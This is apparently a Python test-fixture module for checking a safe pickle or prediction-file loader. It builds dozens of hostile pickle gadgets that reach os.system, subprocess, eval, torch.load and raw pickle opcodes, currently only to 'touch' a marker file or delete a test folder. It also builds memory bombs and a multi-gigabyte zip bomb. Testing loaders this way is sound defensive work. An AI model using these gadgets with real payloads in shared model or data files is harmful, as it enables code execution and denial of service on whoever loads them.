"""Pickles that would run something, each of another kind, and bombs; what they would do is `touch` a file."""

import io
import pickle
import random
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

Make = Callable[[Path], bytes]


def _text(value: str) -> bytes:
    coded = value.encode()
    return b"X" + struct.pack("<I", len(coded)) + coded


def _global(name: str) -> bytes:
    module, _, attribute = name.rpartition(":")
    return f"c{module}\n{attribute}\n".encode()


def _call(name: str, *args: bytes) -> bytes:
    return _global(name) + b"(" + b"".join(args) + b"tR"


def _strings(name: str, *args: str) -> Callable[[str], bytes]:
    """A call of a function with texts: {c} is a shell command, {p} Python, both of which make the file {f}."""

    def make(file: str) -> bytes:
        command = f"touch {file}"
        python = f"__import__('os').system({command!r})"
        return _call(name, *(_text(one.format(c=command, p=python, f=file)) for one in args))

    return make


def _inner(file: str) -> bytes:
    return b"\x80\x02" + _strings("os:system", "{c}")(file) + b"."


def _bytes(content: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(content)) + content


def _torch(data: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    handle = io.BytesIO()
    with zipfile.ZipFile(handle, "w", compression) as archive:
        for name, content in (("x/data.pkl", data), ("x/version", b"3\n"), ("x/byteorder", b"little")):
            archive.writestr(name, content)
    return handle.getvalue()


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


RUN: dict[str, Callable[[str], bytes]] = {
    "os.system": _strings("os:system", "{c}"),
    "posix.system": _strings("posix:system", "{c}"),
    "nt.system": _strings("nt:system", "{c}"),
    "os.popen": _strings("os:popen", "{c}"),
    "subprocess.getoutput": _strings("subprocess:getoutput", "{c}"),
    "subprocess.Popen": lambda f: _call("subprocess:Popen", _list(_text("touch"), _text(f))),
    "subprocess.check_output": lambda f: _call("subprocess:check_output", _list(_text("touch"), _text(f))),
    "eval": _strings("builtins:eval", "{p}"),
    "python 2 eval": _strings("__builtin__:eval", "{p}"),
    "exec": _strings("builtins:exec", "{p}"),
    "getattr chain": lambda f: (
        b"c__builtin__\ngetattr\n("
        + _call("__builtin__:__import__", _text("os"))
        + _text("system")
        + b"tR("
        + _text(f"touch {f}")
        + b"tR"
    ),
    "codecs": lambda f: _call("_codecs:decode", _bytes(f"touch {f}".encode()), _text("unicode_escape")),
    "codec by name": lambda f: _call("_codecs:encode", _text(f), _text("zlib_codec")),
    "importlib": lambda f: _call("importlib:import_module", _text("antigravity")),
    "pty.spawn": lambda f: _call("pty:spawn", _list(_text("touch"), _text(f))),
    "webbrowser": _strings("webbrowser:open", "file://{f}"),
    "rmtree": lambda f: _call("shutil:rmtree", _text(str(Path(f).parent / "victim"))),
    "os.remove": lambda f: _call("os:remove", _text(str(Path(f).parent / "victim" / "kept"))),
    "attrgetter": lambda f: _call("operator:attrgetter", _text("system")) + b"(" + _global("os:sys") + b"tR",
    "methodcaller": lambda f: (
        _call("operator:methodcaller", _text("system"), _text(f"touch {f}"))
        + b"("
        + _call("importlib:import_module", _text("os"))
        + b"tR"
    ),
    "numpy.load": lambda f: _call("numpy:load", _text(str(Path(f).parent / "nested.npy")), b"N", b"\x88"),
    "torch.load": lambda f: _call("torch:load", _text(str(Path(f).parent / "nested.pkl"))),
    "_load_from_bytes": lambda f: _call("torch.storage:_load_from_bytes", _bytes(_torch(_inner(f)))),
    "_load_from_bytes of a pickle": lambda f: _call("torch.storage:_load_from_bytes", _bytes(_inner(f))),
    "pickle.loads": lambda f: _call("pickle:loads", _bytes(_inner(f))),
    "_pickle.loads": lambda f: _call("_pickle:loads", _bytes(_inner(f))),
    "pandas.read_pickle": lambda f: _call("pandas:read_pickle", _text(str(Path(f).parent / "nested.pkl"))),
    "pandas.eval": _strings("pandas.core.computation.eval:eval", "@{p}"),
    "runstring": lambda f: _call("numpy.testing._private.utils:runstring", _text(f"open({f!r}, 'w')"), b"}"),
    "runpy": lambda f: _call("runpy:run_path", _text(str(Path(f).parent / "nested.py"))),
    "timeit": _strings("timeit:timeit", "{p}"),
    "bdb": lambda f: _call("cProfile:run", _text(f"open({f!r}, 'w')")),
    "open": lambda f: _call("io:open", _text(f), _text("w")),
    "FileIO": lambda f: _call("_io:FileIO", _text(f), _text("w")),
    "FileHandler": lambda f: _call("logging:FileHandler", _text(f)),
    "Path.touch": lambda f: _call("pathlib:Path.touch", _call("pathlib:PosixPath", _text(f))),
    "ctypes": lambda f: _call("ctypes:CDLL", b"N"),
    "partial": lambda f: _call("functools:partial", _global("os:system"), _text(f"touch {f}")) + b"(tR",
    "map": lambda f: _call("builtins:list", _call("builtins:map", _global("os:system"), _list(_text(f"touch {f}")))),
    "dotted name": lambda f: (
        b"\x8c\x05numpy\x8c\x1e" + b"f2py.os.system".ljust(30, b" ") + b"\x93(" + _text(f"touch {f}") + b"tR"
    ),
    "dotted numpy": lambda f: b"\x8c\x05numpy\x8c\x0ddtype.__new__\x93(" + _text(f"touch {f}") + b"tR",
    "extension": lambda f: b"\x82\x01(" + _text(f"touch {f}") + b"tR",
    "persistent id": lambda f: _text(f"touch {f}") + b"Q",
    "persistent line": lambda f: f"Ptouch {f}\n".encode(),
    "INST": lambda f: b"(" + _text(f"touch {f}") + b"ios\nsystem\n",
    "OBJ": lambda f: b"(" + _global("os:system") + _text(f"touch {f}") + b"o",
    "NEWOBJ": lambda f: _global("subprocess:Popen") + b"(" + _text(f"touch {f}") + b"t\x81",
    "NEWOBJ_EX": lambda f: _global("collections:OrderedDict") + b")}\x92",
    "__setstate__": lambda f: (
        _global("types:SimpleNamespace")
        + b")R}"
        + _text("__setstate__")
        + _global("os:system")
        + b"sb"
        + _text(f)
        + b"b"
    ),
    "attribute of a class": lambda f: (
        _global("pandas.core.indexes.range:RangeIndex") + b"(N}" + _text("__len__") + _global("os:system") + b"stb"
    ),
    "attribute of a function": lambda f: (
        _global("_codecs:encode") + b"(N}" + _text("__defaults__") + _text(f"touch {f}") + b"stb"
    ),
    "__reduce_ex__": lambda f: _call("copyreg:_reconstructor", _global("os:system"), _global("builtins:object"), b"N"),
    "torch extension": lambda f: _call("torch.utils.cpp_extension:load", _text("x"), _text(f)),
    "torch hub": lambda f: _call("torch.hub:load", _text(str(Path(f).parent)), _text("x")),
    "jit code": lambda f: _call("torch._inductor.codecache:PyCodeCache.load", _text(f"open({f!r}, 'w')")),
    "matplotlib": lambda f: _call("matplotlib.cbook:_get_data_path", _text(f)),
}

_BIG = b"\x8a\x05\x00\x00\x00\x00\x02"  # 2 ** 33
BOMBS: dict[str, bytes] = {
    "bytearray": _global("__builtin__:bytearray") + b"(" + _BIG + b"tR",
    "range": _global("pandas.core.indexes.range:RangeIndex") + b"(" + _BIG + b"tR",
    "ndarray": _global("numpy:ndarray") + b"((" + _BIG + b"ttR",
    "_reconstruct": _call("numpy.core.multiarray:_reconstruct", _global("numpy:ndarray"), b"(" + _BIG + b"t", b"N"),
    "object dtype": (
        _global("numpy:dtype") + b"(" + _text("V8") + b"tR(K\x03" + _text("|") + b"N(" + _text("a") + b"t}" + _text("a")
        + b"(" + _global("numpy:dtype") + b"(" + _text("O8") + b"tRK\x00ts" + b"K\x08K\x01K\x00tb"
    ),
    "far note": b"]r\xff\xff\xff\x7f",
    "hash": b"}K\x01q\x00" + b"".join(b"h%ch%c\x86q%c" % (n, n, n + 1) for n in range(80)) + b"K\x02s",
    "lists of lists": b"]q\x00K\x01a" + b"".join(b"](h%ch%ceq%c" % (n, n, n + 1) for n in range(60)),
    "deep": b"]" * 200_000 + b"a" * 199_999,
    "long text": b"X\xff\xff\xff\x7fabc",
    "long bytes": b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7fabc",
    "long number": b"\x8b\xff\xff\xff\x7f",
    "digits": b"L" + b"9" * 300_000 + b"L\n",
    "endless marks": b"(" * 500_000,
}  # fmt: skip


def hostile_pickle(rng: random.Random, file: Path, index: int) -> tuple[str, bytes]:
    """Name and content of a pickle, alone or among predictions; all kinds come in turn."""
    names = [*RUN, *BOMBS]
    name = names[index % len(names)]
    core = RUN[name](str(file)) if name in RUN else BOMBS[name]
    proto = b"\x80" + bytes([rng.choice([2, 2, 4])])
    shape = rng.choice(["alone", "in a list", "in a row", "popped", "key"])
    if shape == "in a list":
        core = _list(core, b"K\x01")
    elif shape == "in a row":
        row = _text("narration_id") + _text("P01_01_0") + _text("verb_output") + core + _text("noun_output") + b"N"
        core = _list(b"}(" + row + b"u")
    elif shape == "popped":
        core = core + b"0]"
    elif shape == "key":
        core = b"}" + core + b"K\x01s"
    return f"{name} {shape}", proto + core + b"."


def as_torch(rng: random.Random, data: bytes) -> bytes:
    """The same pickle in a file of torch, of today's format or the older one."""
    if rng.random() < 0.7:
        return _torch(data)
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    return head + pickle.dumps({"little_endian": True}, 2) + data + pickle.dumps([], 2)


PARTS = (b"\0", b"[", b'{"a":', b"0,")
BOMB_BYTES = 2_400_000_000


def pack(part: bytes) -> bytes:
    """A deflated stream of `BOMB_BYTES` that repeats a part, with its check sum before it."""
    packer, block = zlib.compressobj(1, zlib.DEFLATED, -15), part * (1 << 20)
    check, packed = 0, []
    for _ in range(BOMB_BYTES // len(block)):
        check = zlib.crc32(block, check)
        packed.append(packer.compress(block))
    return struct.pack("<I", check) + b"".join(packed) + packer.flush()


def zip_bomb(stream: bytes, part: bytes, name: str) -> bytes:
    """A zip of one entry, of what `pack` made."""
    check, packed, coded = stream[:4], stream[4:], name.encode()
    size = BOMB_BYTES // (len(part) << 20) * (len(part) << 20)
    facts = struct.pack("<HHHHH", 20, 0, 8, 0, 33) + check + struct.pack("<II", len(packed), size)
    facts += struct.pack("<HH", len(coded), 0)
    local = b"PK\x03\x04" + facts + coded + packed
    central = b"PK\x01\x02\x14\x00" + facts + struct.pack("<HHHII", 0, 0, 0, 0, 0) + coded
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def lay_traps(folder: Path, file: Path) -> None:
    """Files that gadgets lead to; each makes `file` if it is run."""
    (folder / "victim").mkdir()
    (folder / "victim" / "kept").write_text("x")
    (folder / "nested.pkl").write_bytes(_inner(str(file)))
    (folder / "nested.py").write_text(f"open({str(file)!r}, 'w')")
    (folder / "hubconf.py").write_text(f"open({str(file)!r}, 'w')\ndef x(): pass\n")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    (folder / "nested.npy").write_bytes(
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + _inner(str(file))
    )


def works(file: Path) -> bool:
    """Whether the plainest gadget does what it would do, so that a file that is not there means something."""
    subprocess.run(
        ["python3", "-c", "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))", file.parent / "nested.pkl"],
        check=False,
    )
    made = file.exists()
    file.unlink(missing_ok=True)
    return made
